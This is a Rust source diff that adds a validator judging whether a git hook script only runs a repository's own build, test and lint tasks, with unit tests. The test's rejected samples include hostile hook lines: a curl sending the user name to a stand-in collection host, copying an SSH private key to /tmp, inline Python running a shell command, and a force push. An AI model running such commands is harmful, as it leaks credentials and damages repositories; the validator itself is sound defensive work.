@@ -370,6 +370,125 @@ fn contained_in_a_branch(gitdir: &Path, commit: &str, head: Option<&String>) -> 
     }
 }
 
+/// Whether a hook script only runs the repository's own tasks: every command in it is a
+/// build, test or lint tool (`make`, `npm`, `cargo`, `pytest`, `ruff`, ...), a script of the
+/// repository given by a relative path, a read-only git command, or shell plumbing (`echo`,
+/// `exit`, `test`); nothing that reaches the network, the home or the rest of the machine, no
+/// inline code (`python -c`), no command substitution but `$(git rev-parse ...)`.
+pub fn runs_repository_tasks(script: &str) -> bool {
+    const TOOLS: &[&str] = &[
+        "make",
+        "npm",
+        "npx",
+        "yarn",
+        "pnpm",
+        "cargo",
+        "go",
+        "python",
+        "python3",
+        "pytest",
+        "tox",
+        "nox",
+        "ruff",
+        "black",
+        "isort",
+        "flake8",
+        "mypy",
+        "pylint",
+        "eslint",
+        "prettier",
+        "tsc",
+        "jest",
+        "vitest",
+        "mvn",
+        "gradle",
+        "./gradlew",
+        "./mvnw",
+        "bundle",
+        "rake",
+        "rubocop",
+        "mix",
+        "dotnet",
+        "pre-commit",
+        "lefthook",
+        "shellcheck",
+        "shfmt",
+        "gofmt",
+        "rustfmt",
+        "clang-format",
+        "echo",
+        "printf",
+        "exit",
+        "true",
+        "false",
+        "test",
+        "[",
+        "set",
+        "cd",
+        "git",
+    ];
+    const GIT_READS: &[&str] =
+        &["diff", "rev-parse", "status", "ls-files", "log", "show", "symbolic-ref", "merge-base", "rev-list"];
+    const PLUMBING: &[&str] =
+        &["then", "fi", "else", "do", "done", "esac", "{", "}", "if", "elif", "!", "exec", "command"];
+    let text = script
+        .replace("$(git rev-parse --show-toplevel)", "TOP")
+        .replace("\\\n", " ")
+        .replace("2>&1", " ")
+        .replace(">&2", " ");
+    if text.contains(['`', '~'])
+        || text.contains("$(")
+        || text.contains("$HOME")
+        || text.contains("${HOME")
+        || text.contains("/dev/tcp")
+    {
+        return false;
+    }
+    let mut any = false;
+    for line in text.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#')) {
+        for part in line.split(['&', '|', ';']).map(str::trim).filter(|p| !p.is_empty()) {
+            let mut words = part.split_whitespace().peekable();
+            while let Some(w) = words.peek() {
+                let assignment = w.split_once('=').is_some_and(|(k, _)| {
+                    !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+                });
+                if PLUMBING.contains(w) || assignment {
+                    words.next();
+                } else {
+                    break;
+                }
+            }
+            let rest: Vec<&str> = words.collect();
+            let Some(first) = rest.first() else { continue };
+            // A redirection anywhere but to /dev/null or a relative path writes outside.
+            let outside = rest.iter().enumerate().any(|(i, w)| {
+                let Some(at) = w.find('>') else { return false };
+                let target = w[at..].trim_start_matches(['>', '&']);
+                let target = if target.is_empty() { rest.get(i + 1).copied().unwrap_or("") } else { target };
+                target.starts_with('/') && target != "/dev/null"
+            });
+            if outside {
+                return false;
+            }
+            let local_script = !first.starts_with('/')
+                && !first.contains("..")
+                && first.contains('/')
+                && first.chars().all(|c| c.is_ascii_alphanumeric() || "/._-".contains(c));
+            let ok = match *first {
+                "git" => rest.get(1).is_some_and(|s| GIT_READS.contains(s)),
+                "python" | "python3" => !rest.contains(&"-c"),
+                "cd" => rest.get(1).is_none_or(|d| !d.starts_with('/') || *d == "TOP"),
+                f => TOOLS.contains(&f) || local_script,
+            };
+            if !ok {
+                return false;
+            }
+            any = true;
+        }
+    }
+    any
+}
+
 /// Whether `into` already has every change of `commit`: merging `commit` into it would leave
 /// its tree as it is. A branch squash-merged (or rebased and merged) upstream is merged in this
 /// sense though none of its commits is an ancestor. The merge is computed in memory; the trees
@@ -779,6 +898,29 @@ mod tests {
         }
         for k in ["user.name", "user.email", "branch.main.remote", "core.autocrlf", "remote.origin.fetch"] {
             assert!(!config_key_is_dangerous(k), "{k}");
+        }
+    }
+
+    #[test]
+    fn a_hook_that_runs_the_repositorys_own_tasks_is_its_own() {
+        for ok in [
+            "#!/bin/sh\n# installed by devtools\n# lint first\nexec make -s lint\n",
+            "#!/bin/sh\nset -e\ncd \"$(git rev-parse --show-toplevel)\"\nnpm test && ./scripts/check.sh\n",
+            "#!/bin/sh\nif ! git diff --cached --quiet; then\n  python3 -m pytest -q || exit 1\nfi\n",
+            "#!/bin/sh\nexec make -s test 2>&1\n",
+        ] {
+            assert!(runs_repository_tasks(ok), "{ok}");
+        }
+        for bad in [
+            "#!/bin/sh\nmake lint\ncurl -s https://collect.example.com/$(whoami)\n",
+            "#!/bin/sh\nmake lint\ncat ~/.ssh/id_ed25519 > /tmp/k\n",
+            "#!/bin/sh\npython3 -c 'import os; os.system(\"id\")'\n",
+            "#!/bin/sh\ngit push --force origin main\n",
+            "#!/bin/sh\nmake lint > /etc/motd\n",
+            "#!/bin/sh\n/usr/bin/env bash -c 'x'\n",
+            "#!/bin/sh\n# nothing\n",
+        ] {
+            assert!(!runs_repository_tasks(bad), "{bad}");
         }
     }
 
